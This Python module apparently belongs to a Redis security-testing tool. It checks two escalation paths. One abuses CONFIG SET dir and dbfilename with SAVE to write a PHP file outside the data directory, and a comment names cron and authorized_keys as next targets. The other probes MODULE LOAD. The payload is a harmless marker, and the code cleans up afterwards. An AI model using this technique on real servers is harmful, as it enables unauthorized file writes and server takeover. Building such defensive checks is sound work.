# Copyright: (c) 2026, The rampart.redis contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks 3 and 6: from Redis to the machine, by a file written elsewhere and by a loaded module."""

from __future__ import annotations

from typing import TYPE_CHECKING

from .doors import attempt, everyone
from .model import CannotRunError
from .resp import ReplyError, insist
from .shell import inside

if TYPE_CHECKING:
    from .model import Outcome, Target
    from .resp import Connection

FILE = "rampart-attack.php"
PAYLOAD = "<?php echo 'rampart attack 3'; ?>"
NO_MODULE = "/usr/lib/rampart-no-such-module.so"


def write_file(target: Target) -> Outcome:
    """CONFIG SET dir and dbfilename, then save: a file of ours appears outside the data directory."""
    product = target.product

    def probe(connection: Connection) -> str:
        # Debian's unit leaves few places writable; where an old unit runs, cron and authorized_keys are next.
        connection.ask("CONFIG", "SET", "dir", product.log_dir)
        try:
            connection.ask("CONFIG", "SET", "dbfilename", FILE)
            connection.ask("SET", "app:attack:payload", PAYLOAD)
            connection.ask("SAVE")
            return _found(target)
        finally:
            connection.call("CONFIG", "SET", "dir", product.data_dir, "dbfilename", "dump.rdb")
            connection.call("DEL", "app:attack:payload")

    return attempt(everyone(target), probe)


def _found(target: Target) -> str:
    path = f"{target.product.log_dir}/{FILE}"
    # grep: status 0 only when the payload stands in the file.
    if inside(target.container, f"grep -qaF 'rampart attack 3' {path}", check=False).returncode != 0:
        raise CannotRunError(f"SAVE was accepted, but {path} does not hold the payload")
    inside(target.container, f"rm {path}")
    return f"wrote a script to {path}"


def load_module(target: Target) -> Outcome:
    """Load a module: succeeded when the server tries to open the path (nothing lies there, on purpose)."""
    return attempt(everyone(target), _load_module)


def _load_module(connection: Connection) -> str:
    reply = connection.call("MODULE", "LOAD", NO_MODULE)
    if isinstance(reply, ReplyError) and "Error loading the extension" in reply:
        return f"the server tried to load {NO_MODULE}"
    insist(reply, connection.door, "MODULE LOAD")
    raise CannotRunError(f"unexpected answer to MODULE LOAD: {reply!r}")
